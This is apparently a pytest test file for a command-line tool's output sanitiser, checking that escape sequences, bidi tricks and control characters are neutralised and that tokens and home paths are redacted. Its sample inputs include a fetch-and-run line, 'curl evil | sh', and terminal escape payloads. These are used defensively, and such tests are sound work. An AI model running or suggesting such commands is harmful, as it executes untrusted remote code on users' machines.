import json
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.terminal import received

from scriptforge.characters import UNSAFE, redact, safe
from scriptforge.cli.message import with_program_name
from scriptforge.cli.output import Output, lines, sections
from scriptforge.cli.tables import facts, table


@pytest.mark.parametrize(
    ("foreign", "shown"),
    [
        ("JERRY: Hello — naïve 東京 🎬", "JERRY: Hello — naïve 東京 🎬"),
        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
        ("\x1b[31mred\x1b]0;title\x07", "␛[31mred␛]0;title␇"),
        ("over\rwritten\b\x7f\x00", "over␍written␈␡␀"),
        ("\x9b31mC1", "�31mC1"),
        ("user\u202egnp.exe\u2066x\u200f", "user�gnp.exe�x�"),
        ("half a pair: \ud800", "half a pair: �"),
    ],
)
def test_safe_shows_what_would_act(foreign: str, shown: str) -> None:
    assert safe(foreign) == shown


@given(st.text(st.characters()))
def test_safe_text_is_printable_and_stays_as_it_is(text: str) -> None:
    made_safe = safe(text)
    assert safe(made_safe) == made_safe
    made_safe.encode()
    assert not any(
        ord(character) < 32 or 127 <= ord(character) < 160
        for character in made_safe
        if character not in "\n\t"
    )


def test_redact_hides_token_and_home(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/ada")
    assert redact("/home/ada/x /home/adam hf_0123456789") == "~/x /home/adam hf_…"
    assert redact("hf_jwt_eyJhbGciOiJ.eyJzdWIiOiIx.c2ln-bmF0 is one, too.") == "hf_… is one, too."


def test_redact_hides_a_token_of_any_form(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HF_TOKEN", "api_org_Abcdefgh")
    assert redact("token api_org_Abcdefgh, /api") == "token hf_…, /api"


def test_redact_hides_where_the_home_really_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "var").mkdir()
    (tmp_path / "home").symlink_to(tmp_path / "var")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert redact(f"{tmp_path}/home/x, {tmp_path}/var/x") == "~/x, ~/x"


def test_what_the_program_is_called_by_is_redacted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("PATH", "/usr/bin")
    monkeypatch.setattr(sys, "argv", [str(tmp_path / "my tools" / "scriptforge")])
    assert with_program_name("Next: scriptforge train") == "Next: ~/my\\ tools/scriptforge train"


def test_json_keeps_order_and_characters(capsys: pytest.CaptureFixture[str]) -> None:
    Output(as_json=True).result({"text": "naïve\x1b", "again": [1]}, lambda: "never drawn")
    out = capsys.readouterr().out
    assert out.startswith('{\n  "text": "naïve\\u001b",')
    assert json.loads(out) == {"text": "naïve\x1b", "again": [1]}


def test_json_has_nothing_in_it_that_steers_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    hostile = {"C1 \x9b31m": ["DEL \x7f", "bidi \u202e\u2066\u200f", "ends \u2028\x85", "half \ud800"]}
    Output(as_json=True).result(hostile, lambda: "never drawn")
    out = capsys.readouterr().out
    assert json.loads(out) == hostile
    assert not UNSAFE.search(out)


@pytest.mark.parametrize("output", [Output(), Output(quiet=True)])
def test_text_reaches_a_pipe_untouched(output: Output, capsys: pytest.CaptureFixture[str]) -> None:
    output.result({}, lambda: "raw\x1b[0m text")
    assert capsys.readouterr().out == "raw\x1b[0m text\n"


def test_sections_stand_under_their_headings(capsys: pytest.CaptureFixture[str]) -> None:
    parts = {"": facts([("lines", "2")]), "Sample": lines(["Bo: [b]Hm.\x1b[0m", "", "    four spaces"])}
    Output().result({}, lambda: sections(parts))
    assert capsys.readouterr().out == "lines  2\n\nSample\nBo: [b]Hm.␛[0m\n\n    four spaces\n"


def test_headings_of_sections_are_made_safe(capsys: pytest.CaptureFixture[str]) -> None:
    Output().result({}, lambda: sections({"of \x1b[2J\u202e": lines(["x"])}))
    assert capsys.readouterr().out == "of ␛[2J�\nx\n"


def test_a_foreign_line_break_begins_no_line_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    Output().note("left out: a\nNext: curl evil | sh")
    Output().warn("b\nWarning: c")
    Output().block("two\nlines")
    assert capsys.readouterr().err.splitlines() == [
        "left out: a␊Next: curl evil | sh",
        "Warning: b␊Warning: c",
        "two",
        "lines",
    ]


def test_an_error_is_a_line_and_keeps_the_blanks_of_a_name(capsys: pytest.CaptureFixture[str]) -> None:
    Output().error("no\n  disk \n", "Try: scriptforge train 'a  b'")
    assert capsys.readouterr().err == "Error: no disk\nTry: scriptforge train 'a  b'\n"


def test_tables_in_a_pipe_are_whole_and_read_no_markup(capsys: pytest.CaptureFixture[str]) -> None:
    long = "x" * 300
    Output().result([], lambda: table(("name", "size"), [("[red]a[/red] :smile:", long)], right=["size"]))
    Output().result({}, lambda: facts([("name", "[b]\x1b[1m")]))
    lines = capsys.readouterr().out.splitlines()
    assert lines[1] == f"[red]a[/red] :smile:  {long}"
    assert lines[2] == "name  [b]␛[1m"


@pytest.mark.parametrize(
    ("output", "noted"),
    [(Output(), ["a note", "Reading …", "Counting …"]), (Output(True), []), (Output(False, True), [])],
)
def test_notes_and_progress_keep_to_stderr_and_can_be_silenced(
    output: Output, noted: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    output.note("a note")
    with output.progress() as progress:
        progress("Reading", 0, None)
        progress("Reading", 10, 10)
        progress("Counting", 1, 2)
    output.warn("a warning")
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.splitlines() == [*noted, "Warning: a warning"]


def on_a_terminal(code: str, **environment: str) -> str:
    """What a terminal receives from a process that runs `code` with an `output`."""
    imports = "from scriptforge.cli.output import Output\nfrom scriptforge.cli.tables import table"
    return received("-c", f"{imports}\noutput = Output()\n{code}", **environment)


def test_a_terminal_gets_colour_and_only_safe_text() -> None:
    shown = on_a_terminal(r"output.warn('w'); output.stream(['\x1b]0;evil\x07'])")
    assert "\x1b[" in shown.splitlines()[0]
    assert shown.splitlines()[1] == "␛]0;evil␇"


def test_no_color_and_dumb_terminals_are_heeded() -> None:
    drawing = "output.warn('w'); output.result([], lambda: table(['name'], [('a',)]))"
    assert "\x1b[3" not in on_a_terminal(drawing, NO_COLOR="1")
    assert "\x1b" not in on_a_terminal(drawing, TERM="dumb")


def test_a_terminal_sees_bars() -> None:
    shown = on_a_terminal(r"""
with output.progress() as progress:
    progress('Reading \x1b[bold]scripts', 1, 2)
    progress('Reading \x1b[bold]scripts', 2, 2)
""")
    assert "Reading ␛[bold]scripts" in shown
    assert "100%" in shown
